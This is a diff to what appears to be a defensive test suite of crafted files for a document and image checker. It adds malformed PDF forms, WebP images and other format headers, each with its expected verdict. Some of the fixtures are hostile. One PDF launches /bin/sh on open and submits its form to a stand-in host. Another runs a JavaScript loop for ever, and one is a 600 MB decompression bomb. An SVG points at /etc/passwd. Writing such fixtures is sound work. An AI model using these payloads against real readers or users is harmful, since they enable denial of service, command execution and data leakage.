@@ -48,6 +48,18 @@ def fixed(name: str, data: bytes, *allowed: str) -> None:
 
 # Other kinds, whatever they are called
 
+OTHER_KINDS = {
+    "JPEG 2000": b"\x00\x00\x00\x0cjP  \r\n\x87\n" + bytes(40),
+    "JPEG XL": b"\xff\x0a" + bytes(40),
+    "BigTIFF": b"II+\x00\x08\x00\x00\x00" + bytes(40),
+    "AVIF": b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + bytes(40),
+    "PostScript": b"%!PS-Adobe-3.0\n(%stdin) (r) file\n",
+    "BMP": b"BM" + bytes(60),
+    "RTF": b"{\\rtf1 some text}",
+    "Photoshop": b"8BPS\x00\x01" + bytes(40),
+    "GIF": b"GIF89a" + bytes(40),
+}
+
 fixed("nothing", b"", "empty")
 for _name, _data in {
     "a program for Windows": b"MZ\x90\x00" + bytes(500),
@@ -58,13 +70,6 @@ for _name, _data in {
     "HTML that is a PDF further down": b"<html><script>1</script>%PDF-1.7\n" + bytes(100),
     "SVG": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
     "XML with entities": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>',
-    "PostScript": b"%!PS-Adobe-3.0\n(%stdin) (r) file\n",
-    "BMP": b"BM" + bytes(60),
-    "WebP": b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(30),
-    "JPEG 2000": b"\x00\x00\x00\x0cjP  \r\n\x87\n" + bytes(40),
-    "JPEG XL": b"\xff\x0a" + bytes(40),
-    "BigTIFF": b"II+\x00\x08\x00\x00\x00" + bytes(40),
-    "AVIF": b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + bytes(40),
     "a film": b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isommp41" + bytes(40),
     "brands beyond the end": b"\xff\xff\xff\xf0ftypheic" + bytes(40),
     "brands of no length": b"\x00\x00\x00\x00ftypheic" + bytes(40),
@@ -76,6 +81,10 @@ for _name, _data in {
     fixed(_name, _data, "unknown_kind")
 
 
+for _name, _data in OTHER_KINDS.items():
+    fixed(_name, _data, "other_kind")
+
+
 @hostile("a ZIP", "unknown_kind")
 def _zip() -> bytes:
     out = io.BytesIO()
@@ -84,7 +93,7 @@ def _zip() -> bytes:
     return out.getvalue()
 
 
-@hostile("a GIF of 301 pictures", "unknown_kind")
+@hostile("a GIF of 301 pictures", "other_kind")
 def _gif() -> bytes:
     frames = [Image.new("L", (9, 9), shade % 255) for shade in range(301)]
     return papers.saved(frames[0], "GIF", save_all=True, append_images=frames[1:])
@@ -348,6 +357,140 @@ def _object_bomb() -> bytes:
     return page_pdf(packed)
 
 
+# Forms
+
+BOX = b"10 10 90 40"
+fixed(
+    "form of 20,000 fields",
+    papers.form_pdf(*(papers.field(b"f%d" % at, b"Tx", BOX, b"/V(a)") for at in range(20_000))),
+    "reader_stopped",
+    "too_slow",
+    "too_much_memory",
+    CLEAN,
+)
+fixed("form whose field is its own child", papers.form_pdf(b"<</T(a)/Kids[6 0 R]/Parent 6 0 R>>"), CLEAN)
+fixed(
+    "form whose fields are each other's parents",
+    papers.form_pdf(
+        papers.field(b"a", b"Tx", BOX, b"/Parent 7 0 R/Kids[7 0 R]"),
+        papers.field(b"b", b"Tx", BOX, b"/Parent 6 0 R/Kids[6 0 R]"),
+    ),
+    CLEAN,
+)
+fixed(
+    "form of fields 5,000 deep",
+    papers.form_pdf(
+        *(b"<</T(a)/Parent %d 0 R/Kids[%d 0 R]>>" % (5 + at, 7 + at) for at in range(5_000)),
+        others=(papers.field(b"z", b"Tx", BOX, b"/Parent 5005 0 R/V(a)"),),
+    ),
+    "reader_stopped",
+    "damaged",
+    CLEAN,
+)
+fixed(
+    "form whose appearance draws itself",
+    papers.form_pdf(
+        papers.field(b"a", b"Tx", BOX, b"/AP<</N 7 0 R>>"),
+        others=(
+            stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 7 0 R>>>>"),
+        ),
+    ),
+    CLEAN,
+)
+
+
+BOMB = ("reader_stopped", "too_slow", "too_much_memory", "damaged", CLEAN)
+
+
+@hostile("form whose appearance unpacks to 600 MB", *BOMB)
+def _appearance_bomb() -> bytes:
+    entries = b"/Type/XObject/Subtype/Form/BBox[0 0 80 30]"
+    return papers.form_pdf(
+        papers.field(b"a", b"Tx", BOX, b"/AP<</N 7 0 R>>"),
+        others=(flated(squeezed(b"0 0 m 9 9 l S\n" * 75_000, 600), entries),),
+    )
+
+
+fixed(
+    "form whose value is 30 MB long",
+    papers.form_pdf(
+        papers.field(b"a", b"Tx", BOX, b"/DA(/He 0 Tf 0 g)/Ff 4096/V(" + b"word " * 6_000_000 + b")"),
+        form=b"/NeedAppearances true",
+    ),
+    "reader_stopped",
+    "too_slow",
+    "too_much_memory",
+    CLEAN,
+)
+for _name, _data in {
+    "no dictionary": b"/AcroForm 4711",
+    "nothing": b"/AcroForm 99 0 R",
+    "fields that are a number": b"/AcroForm<</Fields 7>>",
+    "fields that are no fields": b"/AcroForm<</Fields[1(a)null<<>>[]4 0 R 99 0 R]/DR 1/DA 2/CO[9 0 R]>>",
+    "itself as its fields": b"/AcroForm 1 0 R",
+}.items():
+    fixed(f"form of {_name}", page_pdf(catalogue=_data), CLEAN)
+fixed(
+    "form whose fields are of no known kind",
+    papers.form_pdf(
+        papers.field(b"a", b"Zz", BOX, b"/V<</V 1>>/AP 7/MK 3/DA 9/Opt 5/MaxLen -1/Q 77"),
+        papers.field(b"b", b"Ch", BOX, b"/Opt[[[[]]]]/I[99999999]/V[[[]]]/TI 99999999"),
+        papers.field(b"c", b"Btn", b"1e30 -1e30 1e38 nan", b"/AS/Zz/AP<</N<</On 4 0 R>>>>"),
+        papers.field(b"d", b"Sig", BOX, b"/V 1 0 R/Lock 6 0 R"),
+    ),
+    CLEAN,
+)
+_SCRIPT = b"<</S/JavaScript/JS(while(true){app.alert(1)})>>"
+hostile("form that calculates for ever", CLEAN, flags=("javascript",))(
+    lambda: papers.form_pdf(
+        papers.field(
+            b"a",
+            b"Tx",
+            BOX,
+            b"/V(1)/A %s/AA<</C %s/F %s/K %s/V %s/Fo %s/PO %s/PV %s>>" % ((_SCRIPT,) * 8),
+        ),
+        form=b"/CO[6 0 R]/NeedAppearances true",
+        more=b"/OpenAction %s/AA<</WC %s/WS %s>>" % ((_SCRIPT,) * 3),
+    )
+)
+hostile("form that sends itself away", CLEAN, flags=("other_action", "launch"))(
+    lambda: papers.form_pdf(
+        papers.field(b"a", b"Btn", BOX, b"/Ff 65536/A<</S/SubmitForm/F(http://192.0.2.1/)>>"),
+        more=b"/OpenAction<</S/Launch/F(/bin/sh)/Next<</S/ImportData/F(a.fdf)>>>>",
+    )
+)
+hostile("form in XFA", CLEAN, flags=("xfa",))(
+    lambda: papers.form_pdf(
+        papers.field(b"a", b"Tx", BOX, b"/V(a)"),
+        form=b"/XFA 7 0 R",
+        others=(stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>"),),
+        more=b"/NeedsRendering true",
+    )
+)
+
+
+# WebP
+
+
+def _webp_sized(width: int, height: int) -> bytes:
+    sizes = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
+    head = b"VP8X\x0a\x00\x00\x00" + bytes(4) + sizes
+    return b"RIFF" + struct.pack("<I", len(head) + 4 + 60) + b"WEBP" + head + papers.webp()[12:]
+
+
+fixed("WebP of 16,384 x 16,384", _webp_sized(16_384, 16_384), "too_many_pixels")
+fixed("WebP of another size than it says", _webp_sized(3000, 3000), "damaged", CLEAN)
+fixed("WebP of noise", b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(range(1, 200)), "damaged", "too_many_pixels")
+fixed("WebP cut in its head", papers.webp()[:22], "damaged")
+fixed("WebP cut in the middle", papers.webp()[: len(papers.webp()) * 2 // 3], "damaged", CLEAN)
+
+
+@hostile("WebP of 301 pictures", "too_many_pages")
+def _webp_film() -> bytes:
+    frames = [Image.new("L", (9, 9), shade % 255) for shade in range(301)]
+    return papers.saved(frames[0], "WEBP", save_all=True, append_images=frames[1:])
+
+
 # PDF that is locked or broken
 
 
@@ -359,7 +502,7 @@ def _locked(**words: str) -> bytes:
 
 
 hostile("PDF with a password", "encrypted")(lambda: _locked(owner="o", user="u", R=6))
-hostile("PDF that only forbids", "encrypted")(lambda: _locked(owner="o", user="", R=4))
+hostile("PDF that only forbids", CLEAN)(lambda: _locked(owner="o", user="", R=4))
 fixed("PDF of its first line", b"%PDF-1.7\n", "damaged")
 for _part in (20, 50, 80, 97):
     _whole = page_pdf()
